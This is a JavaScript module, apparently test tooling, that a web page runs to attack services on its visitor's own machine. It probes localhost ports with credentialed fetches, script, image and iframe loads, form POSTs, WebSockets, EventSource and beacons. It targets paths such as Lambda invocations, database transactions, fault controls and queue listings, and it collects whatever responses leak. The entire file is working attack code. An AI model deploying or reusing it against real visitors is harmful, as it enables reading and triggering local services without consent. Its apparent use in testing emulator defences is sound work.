// What a page can try against ports of its visitor's machine.

/** Returns a line for everything that was read, loaded or opened. */
export const attack = async (ports) => {
  const gained = [];
  const timeoutMs = 5_000;
  const hosts = ['localhost', '127.0.0.1'];
  const paths = [
    '/users',
    '/search?email=homer@thesimpsons.com',
    '/2015-03-31/functions/users-dev-migrate/invocations',
    '/',
    '/BeginTransaction',
    '/Execute',
    '/_faults',
    '/_pause',
    '/_fauxqs/queues',
  ];

  const withFetch = async (url) => {
    for (const mode of ['cors', 'no-cors', 'same-origin']) {
      for (const method of ['GET', 'POST', 'HEAD']) {
        const init = {
          mode,
          method,
          credentials: 'include',
          signal: AbortSignal.timeout(timeoutMs),
        };
        const text = await fetch(url, method === 'POST' ? { ...init, body: '{}' } : init).then(
          (response) => response.text(),
          () => '',
        );
        if (text) gained.push(`fetch ${mode} ${method} ${url}: ${text}`);
      }
    }
    const headers = { 'content-type': 'application/json' };
    const preflighted = await fetch(url, { method: 'PUT', body: '{}', headers }).catch(() => undefined);
    if (preflighted) gained.push(`fetch with a preflight ${url}`);
  };

  const withElement = (name, attributes) =>
    new Promise((resolve) => {
      const element = document.createElement(name);
      element.onload = () => {
        gained.push(`${name} ${Object.values(attributes).join(' ')}`);
        resolve();
      };
      element.onerror = () => resolve();
      setTimeout(resolve, timeoutMs);
      for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
      document.body.append(element);
    });

  /** A frame always loads; what it shows is what a page may not see. */
  const withFrame = (url, method) =>
    new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.name = `frame${Math.random()}`;
      frame.onload = () => {
        const text = frame.contentDocument?.body?.textContent;
        if (text) gained.push(`frame ${url}: ${text}`);
        resolve();
      };
      setTimeout(resolve, timeoutMs);
      if (!method) frame.src = url;
      document.body.append(frame);
      if (!method) return;
      const form = document.createElement('form');
      Object.assign(form, { action: url, method, target: frame.name, enctype: 'text/plain' });
      document.body.append(form);
      form.submit();
    });

  const withSocket = (url) =>
    new Promise((resolve) => {
      const socket = new WebSocket(url.replace('http', 'ws'));
      socket.onopen = () => {
        gained.push(`WebSocket ${url}`);
        resolve();
      };
      socket.onclose = () => resolve();
      setTimeout(resolve, timeoutMs);
    });

  const withEvents = (url) =>
    new Promise((resolve) => {
      const events = new EventSource(url);
      const end = () => {
        events.close();
        resolve();
      };
      events.onopen = () => {
        gained.push(`EventSource ${url}`);
        end();
      };
      events.onerror = end;
      setTimeout(end, timeoutMs);
    });

  const attackUrl = async (url) => {
    await withFetch(url);
    await withElement('script', { src: url });
    await withElement('script', { src: url, type: 'module' });
    await withElement('img', { src: url });
    await withElement('link', { href: url, rel: 'stylesheet' });
    await withElement('video', { src: url });
    await withFrame(url);
    await withFrame(url, 'post');
    await withSocket(url);
    await withEvents(url);
    navigator.sendBeacon(url, '{}');
  };

  const attackPath = async (path) => {
    for (const port of ports) {
      for (const host of hosts) await attackUrl(`http://${host}:${port}${path}`);
    }
  };
  await Promise.all(paths.map(attackPath));
  return gained;
};
